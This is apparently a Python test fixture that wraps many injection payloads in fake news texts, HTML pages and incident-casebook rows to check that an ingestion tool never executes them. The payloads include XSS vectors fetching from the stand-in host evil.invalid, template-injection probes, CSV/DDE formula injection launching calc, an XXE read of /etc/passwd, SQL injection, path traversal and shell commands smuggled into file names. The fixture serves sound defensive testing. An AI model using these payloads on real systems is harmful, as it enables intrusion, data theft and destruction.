"""Hostile documents, made from families of payloads: each payload as a casebook's row, and as a text or a page.

A payload stands wherever a document can carry words: title, outlet, address, file name, body, names of people, places, sides.
Were one to run, it would call ``pwned()`` or ask ``evil.invalid`` for something; were a template to, 1337 times 7 would be 9359.
For other tests: ``DOCUMENTS`` (what they are), ``items()`` (what a case takes in), ``RAN`` (what must be seen nowhere).
"""

from __future__ import annotations

import tomllib
from collections.abc import Iterator
from html import escape
from typing import Final, NamedTuple

from onrecord import cells
from onrecord.capture import Item
from onrecord.model import Hints

HOST: Final = "evil.invalid"
RAN: Final = "9359"  # what a template that was run would have left
_JS: Final = f"pwned(),fetch('//{HOST}/js')"

FAMILIES: Final[dict[str, tuple[str, ...]]] = {
    "script": (
        f"<script>{_JS}</script>", f"</title><script>{_JS}</script>", f"<ScRiPt src=//{HOST}/x.js></sCrIpT>",
        f"</script><script>{_JS}</script>", f"--><script>{_JS}</script><!--", f"]]><script>{_JS}</script>",
        f"</textarea></style></noscript><script>{_JS}</script>", f"<script type=module>import '//{HOST}/m.js'</script>",
        f"<noscript><p title=\"</noscript><img src=x onerror={_JS}>\">", f"'-{_JS}-'", f"\";{_JS};//",
        f"<scr<script>ipt>{_JS}</script>",
        f"<iframe srcdoc=\"<script>parent.{_JS}</script>\"></iframe>", f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
        f"<base href=//{HOST}/>", f"<object data=//{HOST}/x></object><embed src=//{HOST}/x>",
    ),
    "handlers": (
        f"<img src=x onerror={_JS}>", f"\" onmouseover=\"{_JS}", f"' autofocus onfocus='{_JS}",
        f"<details open ontoggle={_JS}>",
        f"<body onload={_JS}>", f"<input autofocus onfocus={_JS}>", f"<video><source onerror={_JS}></video>",
        f"<a href=# onclick={_JS}>a town</a>", f"`onfocus={_JS} tabindex=1 autofocus=`", f"<x onpointerrawupdate={_JS}>",
        f"<form action=//{HOST}/ method=post><input name=csrf><button autofocus>", f"<p popover id=p onbeforetoggle={_JS}>",
    ),
    "svg": (
        f"<svg onload={_JS}>", f"<svg><script>{_JS}</script></svg>", f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
        f"<svg><foreignObject><img src=x onerror={_JS}></foreignObject></svg>", f"<svg><use href='//{HOST}/x.svg#a'/></svg>",
        f"<svg><image href='//{HOST}/x.png'/></svg>", f"</text></svg><script>{_JS}</script>", f"\"/><script>{_JS}</script>",
        f"<svg><style>@import '//{HOST}/x.css'</style></svg>",
        f"<svg><a xlink:href='javascript:{_JS}'><text>a</text></a></svg>",
    ),
    "mathml": (
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={_JS}&gt;\">",
        f"<math href='javascript:{_JS}'>a</math>", f"<math><maction actiontype='statusline#//{HOST}'>a</maction></math>",
        f"<math><annotation-xml encoding='text/html'><script>{_JS}</script></annotation-xml></math>",
    ),
    "css": (
        f"<style>@import url(//{HOST}/x.css);</style>", f"<link rel=stylesheet href=//{HOST}/x.css>",
        f"\" style=\"background:url(//{HOST}/x.png)", f"</style><style>*{{background:url(//{HOST}/y.png)}}</style>",
        "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>nothing happened here</p>",
        f"x;background-image:url(//{HOST}/z.png)", "expression(pwned())", "*/*{display:none}/*",
    ),
    "addresses": (
        f"javascript:{_JS}", f"JaVaScRiPt&colon;{_JS}", f"\x01javascript:{_JS}", f"java\nscript:{_JS}",
        f"data:text/html,<script>{_JS}</script>", f"//{HOST}/", f"/\\{HOST}/", f"https://{HOST}\\@example.org/",
        "vbscript:pwned()",
        "file:///etc/passwd", f"https://example.org@{HOST}/?q=<b>&x=\"'", f"https://{HOST}/%0d%0aSet-Cookie:%20a=b",
        f"blob:https://{HOST}/a", f"view-source:https://{HOST}/",
    ),
    "templates": (
        "{{1337*7}}", "${1337*7}", "<%= 1337*7 %>", "#{1337*7}", "{% if 1 %}{{1337*7}}{% endif %}", "@(1337*7)", "*{1337*7}",
        "${{1337*7}}", "{{constructor.constructor('pwned()')()}}", "%(passphrase)s", "{0.__class__.__mro__}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "$(printf 9359)", "`printf 9359`", "{{ '</script>'|safe }}",
        "[[1337*7]]",
    ),
    "direction": (
        "Ali \u202egnitset\u202c Omar", "\u2067علي\u2066 Ali", "report\u202egpj.exe", "a\u2069\u2069b\u2068",
        "\u061cAli\u200e\u200f",
        "Ali\u200b\u2060\ufeffOmar", "A\U000e0041\U000e0042li", "Z" + "\u0300\u0316" * 40, "one\u2028two\u2029three",
        "one\x85two",
        "\u202e=1+1", "\u2066</script>\u2069", "القتيل \u202e12\u202c في حلب", "\ufff9a\ufffab\ufffb", "x\ufffe\uffff",
    ),
    "terminal": (
        "\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", f"\x1b]8;;http://{HOST}\x1b\\link\x1b]8;;\x1b\\", "\x9b31mred", "one\rtwo",
        "secret\b\b\b\b\b\bpublic", "\x1b[2J\x1b[H", "\x07\x0e\x0f\x7f", "[bold red]x[/bold red]",
        "[link=http://evil.invalid]x[/link]",
        ":skull: [/] [", "\x1bP$q\x1b\\", "\x1b[6n", "a\vb\fc", "\x00nul\x00",
    ),
    "formulas": (
        "=1337*7", f"=HYPERLINK(\"http://{HOST}?\"&A1,\"here\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1337*7)",
        "\t=1337*7", "\r=1337*7", "\n=1337*7", " =1337*7", "\u00a0=1337*7", "＝1337*7", "＋1337*7", "－1337*7", "＠SUM(1)",
        f"=IMPORTXML(\"http://{HOST}\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\";=1337*7", ",=1337*7", "\"\n=1337*7",
        "'=1337*7",
        "%0A=1337*7", "=cmd|'/c calc'!_xlbgnm.A1", "{=1337*7}", "\u200b=1337*7", "#=1337*7", "|=1337*7",
    ),
    "cells": (
        "a\",\"b", "a\nb,c", "\"", "\"\"\"", "a;b", "a\tb", "\r\n\"x\",\"y\"", "'", "\\", "\\\",\\\"", "a\u2028b",
        ",,,,,,,,", "NULL", "#REF!",
        "_x000D_=1", "_x0041_", "1e999", "NaN", "00012", "x" * 33_000,
    ),
    "markup": (
        "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
        "<!--", "-->",
        "<![CDATA[", "]]>", "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3Epwned()%3C/script%3E",
        "<plaintext>",
        "<b>bold</b>", "</td></tr></table>", "<bdo dir=rtl>abc</bdo>", "# heading", "[a](javascript:pwned())", "| a | b |",
        "<xmp>",
    ),
    "queries": (
        "'; DROP TABLE document; --", "\" OR 1=1 --", "NEAR(a b, 2)", "head : a", "^a OR NOT", "%_%", "\\'; --",
        "a*\"b\" -\"c", "1) UNION SELECT",
    ),
    "file names": (
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "C:\\con", "-rf", "--help", ".htaccess",
        "<img src=x onerror=pwned()>.txt",
        "a\"; filename=\"b.exe", "a\r\nContent-Type: text/html", "n" * 300, "case.db", "$HOME", "~root", "a;rm -rf b",
        "名前.txt", "a/b/c",
    ),
}  # fmt: skip

MAPPING: Final = """
recorder = "A hostile casebook"
id = "ref"
[date]
start = "day"
formats = ["YYYY-MM-DD"]
[place]
name = ["town"]
lat = "north"
lon = "east"
[[count]]
harm = "killed"
who = "civilians"
number = "dead"
[perpetrator]
columns = ["by"]
stance = "accuses"
[weapon]
columns = ["weapon"]
[target]
columns = ["target"]
[victims]
name = "victim"
"""


class Hostile(NamedTuple):
    """A payload of a family in one form: "text", "page" or "row"; ``number`` tells payloads apart."""

    family: str
    number: int
    form: str
    payload: str

    @property
    def name(self) -> str:
        return f"{self.family} {self.number} {self.form}"

    @property
    def given_id(self) -> str:
        """A file's name that is hostile too."""
        return f"{self.payload[:300]} {self.number}.{self.form}"


DOCUMENTS: Final = tuple(
    Hostile(family, number, form, payload)
    for family, payloads in FAMILIES.items()
    for number, payload in enumerate(payloads, 1)
    for form in ("row", ("text", "page")[number % 2])
)


def items() -> Iterator[Item]:
    """Every document as a case takes it in."""
    return map(item, DOCUMENTS)


def item(one: Hostile) -> Item:
    """A document whose every part says the payload."""
    p = one.payload
    make, form = {"text": (_text, "text"), "page": (_page, "html"), "row": (_row, "row")}[one.form]
    hints = Hints(title=p, published="2016-03-05", lang="en", outlet=p, url=f"https://example.org/{p}")
    return Item(one.given_id, f"https://example.org/{p}", make(one), hints, form, None)


def _story(p: str, n: int) -> list[str]:
    p = p[:2000]  # a word of 33,000 letters costs the reader half a minute
    return [
        f"Shells hit a market in Idlib on 4 March 2016, killing {n + 2} people, {p} said on Saturday.",
        f"Among the dead was {p}, a teacher. “{p}”, a spokesman told reporters. The army of {p} denied it.",
    ]


def _text(one: Hostile) -> bytes:
    return "\n\n".join([one.payload, *_story(one.payload, one.number), ""]).encode()


def _page(one: Hostile) -> bytes:
    """The payload as it is, in the page's own markup, and escaped, so that it is what the page says."""
    p, said = one.payload, escape(one.payload)
    story = "".join(f"<p>{line}</p>" for line in _story(said, one.number))
    return (
        f"<!doctype html><html lang=en><head><meta charset=utf-8><title>{said}</title>"
        f'<meta property="og:title" content="{said}"><meta name="author" content="{said}"></head>'
        f"<body><article><h1>{said}</h1>{story}<p>{p}</p></article></body></html>"
    ).encode()


def _row(one: Hostile) -> bytes:
    p = one.payload
    row = {
        "ref": f"R{one.number}", "day": "2016-03-04", "town": p, "north": "35.9", "east": "36.6", "dead": str(one.number),
        "by": p, "weapon": p, "target": p, "victim": p,
    }  # fmt: skip
    return cells.dump(row, tomllib.loads(MAPPING), [p])
